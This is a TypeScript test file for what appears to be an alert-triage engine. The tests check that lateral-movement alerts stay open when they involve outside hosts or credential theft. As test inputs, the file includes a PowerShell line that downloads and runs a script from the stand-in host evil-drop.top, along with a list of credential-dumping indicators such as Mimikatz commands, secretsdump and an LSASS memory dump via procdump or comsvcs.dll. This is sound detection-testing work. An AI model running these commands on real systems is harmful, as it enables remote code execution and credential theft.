import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../../domain/alert';
import { judgedBySilence, outcomeOf, TRUSTING } from './trusting';
import { before } from './situations';

/** What hides behind an admin pair of the site. */

const LATERAL = 'lateral_movement';
const ADMIN: Partial<Alert> = { src_ip: '10.0.0.5', dest_ip: '10.0.0.10', username: 'svc-deploy' };
/** Its pair names the destination: dc01. */
const NAMED: Partial<Alert> = { src_ip: '10.0.0.6', dest_hostname: 'dc01', username: 'svc-deploy' };

test('harm that was proven on an end ends the leave, however the end is named', () => {
  const named = { ...ADMIN, src_hostname: 'jump01', dest_hostname: 'app1.corp.example' };
  assert.equal(outcomeOf(LATERAL, named), 'close');
  for (const earlier of [
    before('ip:10.0.0.5'),
    before('host:jump01'),
    // tied by the account, on a host that is one of the ends in another spelling
    before('user:svc-deploy', { hosts: ['jump01.corp.example'] }),
    before('user:svc-deploy', { hosts: ['app1'] }),
    before('user:svc-deploy', { hosts: ['10.0.0.5'] }),
  ]) {
    const { decision } = judgedBySilence(LATERAL, named, { earlier: [earlier] });
    assert.equal(decision.outcome, 'open', JSON.stringify(earlier));
    assert.match(decision.reason, /INC-1/);
  }
  for (const earlier of [
    before('user:svc-deploy', { hosts: ['ws9'] }),
    before('ip:10.0.0.5', { verdict: 'suspicious' }),
    before('ip:10.0.0.5', { resolution: 'false_positive' }),
  ]) {
    assert.equal(outcomeOf(LATERAL, named, { earlier: [earlier] }), 'close', JSON.stringify(earlier));
  }
});

test('no pair covers what leads out of the site, unless it names just that', () => {
  assert.equal(outcomeOf(LATERAL, ADMIN), 'close');
  assert.equal(outcomeOf(LATERAL, NAMED), 'close');
  assert.equal(outcomeOf(LATERAL, { ...NAMED, dest_ip: '10.0.0.10' }), 'close');
  assert.equal(outcomeOf(LATERAL, { ...NAMED, dest_hostname: 'DC01.corp.example.' }), 'close');
  assert.equal(outcomeOf(LATERAL, { ...ADMIN, dest_hostname: 'app1.corp.local', domain: 'CORP' }), 'close');
  for (const alert of [
    { ...ADMIN, dest_ip: '45.155.205.233' },
    { src_ip: '10.0.0.5', username: 'svc-deploy', dest_hostname: '45.155.205.233' },
    { src_ip: '10.0.0.5', username: 'svc-deploy', dest_hostname: 'vps.evil-drop.top' },
    { src_ip: '10.0.0.5', username: 'svc-deploy', hostname: 'vps.evil-drop.top' },
    { ...ADMIN, dest_hostname: 'vps.evil-drop.top' },
    { ...ADMIN, domain: 'evil-drop.top' },
    { ...ADMIN, url: 'https://evil-drop.top/x' },
    { ...NAMED, dest_ip: '45.155.205.233' },
    { ...NAMED, dest_hostname: 'dc01.evil-drop.top' },
  ] satisfies Partial<Alert>[]) {
    assert.notEqual(outcomeOf(LATERAL, alert), 'close', JSON.stringify(alert));
  }
});

test('what a pair names literally may be outside', () => {
  const pairs = [
    { source: '10.0.0.5', destination: 'vps.partner.com', user: 'svc-deploy' },
    { source: '10.0.0.5', destination: '91.198.174.0/24', user: 'svc-deploy' },
    { source: 'maintenance.partner.com', destination: '*', user: 'svc-deploy' },
  ];
  const site = { ...TRUSTING, admin_pairs: pairs };
  const closes = (alert: Partial<Alert>) => outcomeOf(LATERAL, { username: 'svc-deploy', ...alert }, { site });
  assert.equal(closes({ src_ip: '10.0.0.5', dest_hostname: 'vps.partner.com' }), 'close');
  assert.equal(closes({ src_ip: '10.0.0.5', dest_ip: '91.198.174.9' }), 'close');
  assert.equal(closes({ src_hostname: 'maintenance.partner.com', dest_hostname: 'app1' }), 'close');
  // the name is easily claimed: the address must be named as well
  assert.notEqual(closes({ src_ip: '10.0.0.5', dest_hostname: 'vps.partner.com', dest_ip: '45.155.205.233' }), 'close');
  assert.notEqual(closes({ src_hostname: 'maintenance.evil-drop.top', dest_hostname: 'app1' }), 'close');
});

test('any source is any source of the site', () => {
  const site = { ...TRUSTING, admin_pairs: [{ source: '*', destination: 'app1', user: 'svc-deploy' }] };
  const from = (alert: Partial<Alert>) =>
    outcomeOf(LATERAL, { username: 'svc-deploy', dest_hostname: 'app1', ...alert }, { site });
  assert.equal(from({ src_ip: '10.0.3.3' }), 'close');
  assert.equal(from({ src_hostname: 'ws3' }), 'close');
  assert.notEqual(from({ src_ip: '45.155.205.233' }), 'close');
  assert.notEqual(from({ src_hostname: 'vps.evil-drop.top' }), 'close');
});

test('an allowed pair whose command fetches from outside stays open, and the reason names the place', () => {
  const fetching = { ...ADMIN, executed: true, command_line: 'powershell iwr http://evil-drop.top/x.ps1 | iex' };
  const { decision } = judgedBySilence(LATERAL, fetching);
  assert.equal(decision.outcome, 'open');
  assert.match(decision.reason, /evil-drop\.top/);
  assert.doesNotMatch(decision.recommendations.join(' '), /Nothing to do/);
  for (const command_line of [
    'psexec.exe \\\\app1 -s cmd.exe',
    'msiexec /i \\\\fs01.corp.example\\sw\\a.msi',
    'ping 10.0.0.10',
  ]) {
    assert.equal(outcomeOf(LATERAL, { ...ADMIN, command_line }), 'close', command_line);
  }
});

test('a log that names the process of every logon tells of no theft', () => {
  const site = { ...TRUSTING, privileged_accounts: ['svc-deploy'], critical_hosts: ['dc01.corp.example'] };
  const logon =
    'EventID 4624 An account was successfully logged on. Process Name: C:\\Windows\\System32\\lsass.exe Package: Kerberos';
  const routine = { ...ADMIN, dest_hostname: 'dc01.corp.example', process: 'wsmprovhost.exe' };
  for (const change of [
    { raw_log: logon },
    { process: 'C:\\Windows\\System32\\lsass.exe' },
    { raw_log: 'copy distutils-precedence.pth to host' },
    { command_line: 'xcopy distutils-precedence.pth \\\\app1\\c$' },
  ] satisfies Partial<Alert>[]) {
    assert.equal(outcomeOf(LATERAL, { ...routine, ...change }, { site }), 'close', JSON.stringify(change));
  }
  for (const change of [
    { raw_log: 'Invoke-Mimikatz' },
    { raw_log: 'sekurlsa::logonpasswords' },
    { raw_log: 'impacket secretsdump' },
    { raw_log: 'DCSync of the domain' },
    { command_line: 'procdump -ma lsass.exe' },
    { title: 'Access to lsass memory' },
    { command_line: 'rundll32 comsvcs.dll MiniDump' },
    { rule_name: 'pth detected' },
    { process: 'rubeus.exe' },
  ] satisfies Partial<Alert>[]) {
    assert.notEqual(outcomeOf(LATERAL, { ...routine, ...change }, { site }), 'close', JSON.stringify(change));
  }
});
